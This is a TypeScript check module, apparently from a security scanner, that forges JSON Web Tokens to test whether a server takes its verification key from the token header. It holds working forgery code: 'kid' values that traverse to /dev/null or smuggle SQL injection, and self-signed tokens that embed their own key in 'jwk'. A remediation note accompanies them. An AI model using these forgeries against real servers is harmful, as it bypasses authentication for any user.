import { generateKeyPairSync, sign, type KeyObject } from "node:crypto";
import {
  defineForgedToken,
  jsonWebToken,
  signedToken,
  wrongSignature,
  type Claims,
  type Forgery,
} from "../../attacks/forged-tokens.ts";

/** Key ids that lead a verifier to a known key: an empty file, or a row that an injected query returns. */
const KEY_IDS: readonly { readonly kid: string; readonly key: string }[] = [
  { kid: "../../../../../../../../dev/null", key: "" },
  { kid: "/dev/null", key: "" },
  { kid: "x' UNION SELECT '1';-- ", key: "1" },
  { kid: "x' UNION SELECT '1' -- ", key: "1" },
  { kid: 'x" UNION SELECT "1";-- ', key: "1" },
];

export default defineForgedToken({
  id: "authentication/token-header-injection",
  title: "JWT key taken from the token's own header (kid, jwk)",
  description:
    "The server chooses the verification key by unverified values in the token header: a file or database row selected by `kid`, or a key embedded in `jwk`. An attacker can forge a token for any user and sign it with a known key.",
  rule: "A token whose `kid` selects an empty file or a value of an injected query, or that embeds the public key of its signature, is accepted.",
  control:
    "The same request without a token, or with the same header and claims under another signature, is refused.",
  remediation:
    "Look the key up by exact match in a fixed list, never in the file system or with a concatenated query, and ignore `jwk`, `jku`, `x5c` and `x5u` in tokens.",
  prior: () => 0.5,
  cost: 6,

  forger: (probe) => (claims) => ({
    forgeries: [
      ...KEY_IDS.map(({ kid, key }) => ({
        label: `with kid "${kid}" and ${key === "" ? "the empty key" : `the key "${key}"`}`,
        token: signedToken(key, claims, { kid }),
      })),
      ...selfSigned(claims),
    ],
    unbelievable: jsonWebToken({ alg: "HS256", kid: KEY_IDS[0]!.kid }, claims, wrongSignature(probe)),
  }),
});

/** Tokens that bring the public key by which they are verified (RFC 7515, section 4.1.3). */
function selfSigned(claims: Claims): Forgery[] {
  const { rsa, ec } = ownKeys();
  return [
    { label: "with its own RSA key in jwk", token: withOwnKey("RS256", rsa, claims) },
    { label: "with its own elliptic key in jwk", token: withOwnKey("ES256", ec, claims) },
  ];
}

interface KeyPair {
  readonly publicKey: KeyObject;
  readonly privateKey: KeyObject;
}

let made: { readonly rsa: KeyPair; readonly ec: KeyPair } | undefined;
const ownKeys = () =>
  (made ??= {
    rsa: generateKeyPairSync("rsa", { modulusLength: 2048 }),
    ec: generateKeyPairSync("ec", { namedCurve: "P-256" }),
  });

function withOwnKey(alg: string, { publicKey, privateKey }: KeyPair, claims: Claims): string {
  const unsigned = jsonWebToken({ alg, jwk: publicKey.export({ format: "jwk" }) }, claims);
  const signature = sign("sha256", Buffer.from(unsigned.slice(0, -1)), {
    key: privateKey,
    dsaEncoding: "ieee-p1363",
  });
  return unsigned + signature.toString("base64url");
}
